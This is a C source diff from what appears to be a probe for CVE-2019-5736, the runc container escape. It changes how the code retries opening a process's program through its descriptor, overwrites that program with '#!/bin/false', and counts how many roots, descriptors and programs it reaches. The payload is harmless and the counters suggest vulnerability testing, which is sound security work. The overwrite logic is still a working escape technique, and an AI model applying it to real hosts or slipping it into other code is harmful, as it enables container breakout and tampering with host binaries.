@@ -48,10 +48,11 @@ static int open_in(int process, const char* name, int flags) {
 
 // CVE-2019-5736: through the descriptor the program can be opened once nothing executes it.
 static void overwrite(const char* program) {
-  int file;
-  do {
+  int file = -1;
+  for (int attempt = 0; file < 0 && attempt < 10000; ++attempt) {
     file = open(program, O_WRONLY | O_CLOEXEC);
-  } while (file < 0 && errno == ETXTBSY && !stopped);
+    if (file < 0 && errno != ETXTBSY) return;
+  }
   if (file < 0) return;
   if (write(file, "#!/bin/false\n", 13) > 0) ++found.overwritten;
   close(file);
@@ -98,7 +99,6 @@ static void take_program(int process) {
 static void attack_process(pid_t pid, int process) {
   if (!is_ours(process)) return;
   ++found.seen;
-  take_program(process);
   count(open_in(process, "root/", O_PATH), process, &found.roots);
   count(open_in(process, "cwd/", O_PATH), process, &found.roots);
   for (int fd = 0; fd < 32; ++fd) {
@@ -107,6 +107,7 @@ static void attack_process(pid_t pid, int process) {
     count(open_in(process, path, O_PATH), process, &found.descriptors);
   }
   trace(pid, process);
+  take_program(process);
 }
 
 static void look_at(const char* pid) {
